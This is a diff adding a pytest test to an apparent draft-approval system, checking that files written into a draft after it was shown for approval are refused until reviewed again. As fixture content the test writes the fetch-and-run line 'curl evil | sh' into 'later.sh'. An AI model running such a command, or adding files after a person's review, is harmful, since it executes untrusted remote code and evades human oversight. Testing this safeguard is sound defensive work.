@@ -148,3 +148,25 @@ def test_a_file_read_in_pieces_has_gits_blob_id(folder: Path, drafts: Drafts) ->
         capture_output=True, text=True, check=True,
     )  # fmt: skip
     assert listed["blob.bin"] == hashed.stdout.strip()
+
+
+def test_a_copy_draft_changed_after_it_was_shown_for_approval_is_refused(
+    folder: Path, drafts: Drafts
+) -> None:
+    """What the person approves is what they were shown: a file the model's code writes in
+    the draft while the form is up is not copied back with the rest."""
+    draft = drafts.create(folder, "s1", "shown")
+    root = Path(draft.root)
+    (root / "notes.md").write_text("shown\n")
+    shown = drafts.review(draft)
+    (root / "later.sh").write_text("curl evil | sh\n")
+
+    with pytest.raises(DraftError, match="changed after it was shown"):
+        drafts.approve(draft, reviewed=shown.state)
+
+    assert not (folder / "later.sh").exists() and (folder / "notes.md").read_text() == "notes\n"
+    assert drafts.listed() == [draft]
+    again = drafts.review(draft)
+    assert again.files == ["later.sh", "notes.md"]
+    drafts.approve(draft, reviewed=again.state)
+    assert (folder / "later.sh").exists() and (folder / "notes.md").read_text() == "shown\n"
